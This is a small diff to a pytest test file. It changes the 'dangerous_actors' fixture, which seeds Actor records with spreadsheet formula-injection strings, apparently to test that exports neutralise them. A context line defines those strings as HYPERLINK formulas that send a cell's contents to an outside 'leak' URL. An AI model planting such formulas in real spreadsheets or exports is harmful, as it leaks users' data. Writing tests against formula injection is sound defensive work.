@@ -17,7 +17,8 @@ DANGEROUS = {t: f'{t}HYPERLINK("https://example.org/?leak="&A1,"click")' for t i
 
 
 @pytest.fixture
-def dangerous_actors(references):
+def dangerous_actors(request):
+    request.getfixturevalue("references")
     for n, (trigger, name) in enumerate(DANGEROUS.items()):
         Actor.objects.create(
             slug=f"dangerous-{n}", name=name, kind="organisation", description=trigger
